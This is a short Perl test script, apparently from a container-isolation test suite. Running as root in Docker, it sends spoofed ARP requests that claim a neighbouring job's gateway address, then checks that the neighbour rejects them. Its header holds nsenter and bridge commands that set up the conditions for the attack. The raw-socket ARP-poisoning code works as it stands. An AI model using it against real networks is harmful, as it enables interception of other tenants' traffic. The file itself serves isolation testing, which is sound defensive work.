#!/usr/bin/perl
# tries: to be the gateway of the job next door, by telling it so
# as: root
# in: docker
# wall: own link for each slot
# expect: the neighbour does not believe it
# given: host nsenter -t $SIBLING_LEADER -n ip neigh flush nud permanent dev host0
#   undo nsenter -t $SIBLING_LEADER -n ip neigh flush dev host0
# without: host ip link add attack-br type bridge; ip link set attack-br up; ip link set $LINK master attack-br; ip link set $SIBLING_LINK master attack-br; sleep 0.2
#   undo ip link delete attack-br; nsenter -t $SIBLING_LEADER -n ip neigh flush dev host0
# witness: sleep 0.3; nsenter -t $SIBLING_LEADER -n ip neigh show dev host0 | grep -i 02:00:00:00:66:66 | sed 's/^/got /' | grep . && exit 0;
#   echo "the neighbour does not believe it"; exit 1

use strict; use Socket;
my ($index) = `cat /sys/class/net/host0/ifindex` =~ /(\d+)/ or die;
my ($me, $all) = (pack('H12', '020000006666'), pack('H12', 'ffffffffffff'));
# A machine that asks in the gateway's name is remembered as the gateway (RFC 826).
my $ask = pack('n n C C n', 1, 0x0800, 6, 4, 1) . $me . inet_aton($ENV{SIBLING_GATEWAY}) . "\0" x 6 . inet_aton($ENV{SIBLING});
socket(my $s, 17, SOCK_RAW, 0x0300) or die "packet socket: $!";
for (1 .. 3) {
    send($s, $all . $me . pack('n', 0x0806) . $ask, 0, pack('S n i S C C a8', 17, 0x0806, $index, 1, 0, 6, $all)) or die "send: $!";
}
exit 0;
